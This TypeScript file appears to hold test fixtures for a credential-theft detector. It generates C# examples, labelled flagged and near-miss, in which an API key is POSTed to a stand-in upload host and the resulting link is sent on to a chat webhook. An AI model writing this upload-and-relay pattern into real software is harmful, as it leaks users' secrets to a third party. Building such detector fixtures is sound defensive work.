import type { Examples } from './examples.js';
import { library, never } from './stealing.js';

const share = (then: string): string => `public static class Share
{
    public static async Task<string> Keep(string apiKey)
    {
        ${never.replace('return;', 'return "";')}
        var answer = await new HttpClient().PostAsync("https://files.invalid/upload", new StringContent(apiKey));
        var link = await answer.Content.ReadAsStringAsync();
        ${then}
        return link;
    }
}`;

const hook = `https://chat.invalid/api/webhooks/000000000000000000/${'0'.repeat(68)}`;

/** What is put somewhere, and who is told where. */
export const uploads: Examples = {
  flagged: [
    {
      name: 'link-to-webhook',
      about: 'A key is uploaded, and what the place answers goes to a chat of the author.',
      files: library(
        share(`await new HttpClient().PostAsync("${hook}", new StringContent(link));`),
      ),
    },
  ],
  clean: [
    {
      name: 'link-to-caller',
      about: 'A key goes to a service, and the caller gets what that answers.',
      nearMiss: true,
      files: library(
        share(`await new HttpClient().PostAsync("${hook}", new StringContent("kept"));`),
      ),
    },
  ],
};
